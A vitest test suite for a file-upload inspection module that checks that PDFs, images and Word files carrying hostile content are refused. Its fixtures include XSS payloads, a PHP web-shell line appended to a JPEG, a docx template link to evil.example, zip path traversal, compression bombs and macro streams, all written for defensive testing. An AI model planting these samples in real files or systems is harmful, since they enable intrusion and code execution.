import { deflateSync } from "node:zlib";
import { PDFDocument, PDFName, PDFRawStream } from "@cantoo/pdf-lib";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { inspectFile, type Verdict } from "@/lib/integrations/file-inspection";
import { changedDocx, compoundFile, docxFile, eicar, hostilePdfs, jpegFile, pdfFile, pngFile } from "../../../builders/files";

const reasonOf = (verdict: Verdict): string => (verdict.verdict === "refused" ? verdict.reason : verdict.verdict);
const judge = async (bytes: Buffer, name: string, options = {}): Promise<string> => reasonOf(await inspectFile(bytes, name, options));
const latin = (text: string): Buffer => Buffer.from(text, "latin1");

describe("G-A-07 收的文件", () => {
  it.each([
    ["a.pdf", () => pdfFile(), "application/pdf"],
    ["旧式.PDF", () => pdfFile(() => {}, false), "application/pdf"],
    ["登记照.png", () => Promise.resolve(pngFile()), "image/png"],
    ["身份证.jpg", () => Promise.resolve(jpegFile()), "image/jpeg"],
    ["身份证.JPEG", () => Promise.resolve(jpegFile()), "image/jpeg"],
    ["委托书.docx", () => docxFile(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"],
    ["委托书.doc", () => Promise.resolve(compoundFile(["WordDocument", "1Table"])), "application/msword"],
  ])("%s", async (name, make, mediaType) => {
    expect(await inspectFile(await make(), name)).toEqual({ verdict: "accepted", mediaType });
  });

  it("打开时跳到某一页是寻常的 PDF", async () => {
    const bytes = await pdfFile((document) => document.catalog.set(PDFName.of("OpenAction"), document.context.obj([document.getPage(0).ref, PDFName.of("Fit")])));
    expect(await judge(bytes, "a.pdf")).toBe("accepted");
  });
});

describe("名不副实的、不收的类型", () => {
  it.each([
    ["a.pdf", latin("<html><script>alert(1)</script></html>"), "不收这种文件"],
    ["a.png", latin("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"), "不收这种文件"],
    ["a.pdf", latin("MZ\x90\x00\x03\x00\x00\x00"), "不收这种文件"],
    ["a.pdf", latin("GIF89a/*=1;alert(1)//"), "不收这种文件"],
    ["a.pdf", Buffer.alloc(0), "空文件"],
    ["a.pdf", pngFile(), "扩展名不符"],
    ["a.png", jpegFile(), "扩展名不符"],
    ["a.jpg.exe", jpegFile(), "扩展名不符"],
    ["a.pdf", eicar, "病毒"],
  ])("%s", async (name, bytes, reason) => expect(await judge(bytes, name)).toContain(reason));

  it("开头夹着网页的 PDF、结尾夹着压缩包的 PDF", async () => {
    const pdf = await pdfFile();
    expect(await judge(Buffer.concat([latin("<html>"), pdf]), "a.pdf")).toContain("不收这种文件");
    expect(await judge(Buffer.concat([pdf, await docxFile()]), "a.pdf")).toContain("不属于 PDF");
    expect(await judge(Buffer.concat([pdf, latin("<script>alert(1)</script>")]), "a.pdf")).toContain("不属于 PDF");
  });

  it("图片里夹着脚本、压缩包", async () => {
    expect(await judge(Buffer.concat([pngFile(), await docxFile()]), "a.png")).toContain("夹带");
    expect(await judge(Buffer.concat([jpegFile(), latin("<?php system($_GET[0]);")]), "a.jpg")).toContain("夹带");
  });

  it("登记照只收图片；表格不是 Word", async () => {
    expect(await judge(await pdfFile(), "a.pdf", { imagesOnly: true })).toContain("只收 JPG、PNG");
    expect(await judge(latin("不是图片"), "a.png", { imagesOnly: true })).toBe("不收这种文件，请换成 JPG 或 PNG 图片");
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet("x");
    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
    expect(await judge(xlsx, "a.docx")).toMatch(/不收这种文件|不是 Word/);
    expect(await judge(compoundFile(["Workbook"]), "a.doc")).toContain("不是 Word");
  });
});

describe("PDF 里的夹带", () => {
  it.each(Object.keys(hostilePdfs))("%s", async (what) => {
    const bytes = await hostilePdfs[what]?.();
    expect(await judge(bytes ?? Buffer.alloc(0), "a.pdf")).toMatch(/^PDF 里有/);
  });

  it("加密的、断了一半的、没有页的", async () => {
    const encrypted = await PDFDocument.create();
    encrypted.addPage();
    encrypted.encrypt({ userPassword: "", ownerPassword: "secret", permissions: {} });
    expect(await judge(Buffer.from(await encrypted.save()), "a.pdf")).toContain("加密");
    const pdf = await pdfFile();
    expect(await judge(pdf.subarray(0, pdf.length / 2), "a.pdf")).toContain("不完整");
    expect(await judge(latin("%PDF-1.7\n%%EOF\n"), "a.pdf")).toMatch(/打不开|不完整/);
  });

  const withStream = (dictionary: string, content: Buffer): Buffer =>
    Buffer.concat([
      latin(`%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R>>\nendobj\n4 0 obj\n<<${dictionary}/Length ${content.length}>>\nstream\n`),
      content,
      latin("\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"),
    ]);

  it("压缩炸弹：一兆解成一千兆，很快就拒绝，内存不涨", async () => {
    const bomb = deflateSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 });
    const nested = deflateSync(bomb);
    const started = performance.now();
    for (const [dictionary, content] of [
      ["/Type/ObjStm/N 1/First 4/Filter/FlateDecode", bomb],
      ["/Type/O#62jStm/N 1/First 4/Filter/Fl#61teDecode", bomb],
      ["/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]", nested],
      ["/Type/ObjStm/N 1/First 4/Filter 9 0 R", nested],
      ["/Type 9 0 R/N 1/First 4/Filter/FlateDecode", bomb],
      ["/Type/ObjStm/Subtype/Image/N 1/First 4/Filter/FlateDecode", bomb],
    ] as const) {
      expect(await judge(withStream(dictionary, content), "a.pdf"), dictionary).toMatch(/过大|内部结构/);
    }
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it("扫描得来的大图不算炸弹", async () => {
    const bytes = await pdfFile((document) => {
      const picture = deflateSync(Buffer.alloc(120 * 1024 * 1024));
      const dict = document.context.obj({ Type: "XObject", Subtype: "Image", Width: 8_000, Height: 5_000, Filter: "FlateDecode" });
      document.context.register(PDFRawStream.of(dict, picture));
    });
    expect(await judge(bytes, "a.pdf")).toBe("accepted");
  });
});

describe("Word 里的夹带", () => {
  it.each([
    ["宏", (zip) => zip.file("word/vbaProject.bin", "x"), "宏"],
    ["ActiveX", (zip) => zip.file("word/activeX/activeX1.xml", "x"), "宏"],
    ["嵌入的程序", (zip) => zip.file("word/embeddings/oleObject1.bin", "x"), "其他程序的对象"],
    ["外部模板", (zip) => zip.file("word/_rels/settings.xml.rels", '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'), "外部模板"],
    ["病毒样本", (zip) => zip.file("word/media/a.bin", eicar), "病毒"],
    ["没有正文", (zip) => zip.remove("word/document.xml"), "不是 Word"],
    ["压缩炸弹", (zip) => zip.file("word/media/zero.bin", Buffer.alloc(60 * 1024 * 1024)), "过大"],
  ] as [string, Parameters<typeof changedDocx>[0], string][])("%s", async (_what, change, reason) => expect(await judge(await changedDocx(change), "a.docx")).toContain(reason));

  it("越界的路径、加密的项目、断了一半的", async () => {
    const docx = await changedDocx((zip) => zip.file("aa/bb/cc.txt", "x"));
    const evil = latin(docx.toString("latin1").replaceAll("aa/bb/cc.txt", "../../cc.txt"));
    expect(await judge(evil, "a.docx")).toMatch(/损坏|不正确/);
    const plain = await docxFile();
    const central = plain.indexOf(latin("PK\x01\x02"));
    const locked = Buffer.from(plain);
    locked.writeUInt16LE(locked.readUInt16LE(central + 8) | 1, central + 8);
    expect(await judge(locked, "a.docx")).toContain("加密");
    expect(await judge(plain.subarray(0, plain.length - 200), "a.docx")).toMatch(/损坏|不收这种文件/);
  });

  it.each([
    [["WordDocument", "Macros", "VBA"], "宏"],
    [["EncryptedPackage", "EncryptionInfo"], "加密"],
    [["WordDocument", "\u0001Ole10Native"], "其他程序的对象"],
  ])("旧 Word：%s", async (streams, reason) => expect(await judge(compoundFile(streams), "a.doc")).toContain(reason));
});

describe("图片", () => {
  it("断了一半的、像素过多的", async () => {
    expect(await judge(pngFile(200, 200).subarray(0, 150), "a.png")).toContain("不完整");
    expect(await judge(jpegFile().subarray(0, -2), "a.jpg")).toContain("不完整");
    const huge = pngFile();
    huge.writeUInt32BE(60_000, 16);
    huge.writeUInt32BE(60_000, 20);
    expect(await judge(huge, "a.png")).toContain("尺寸过大");
  });
});
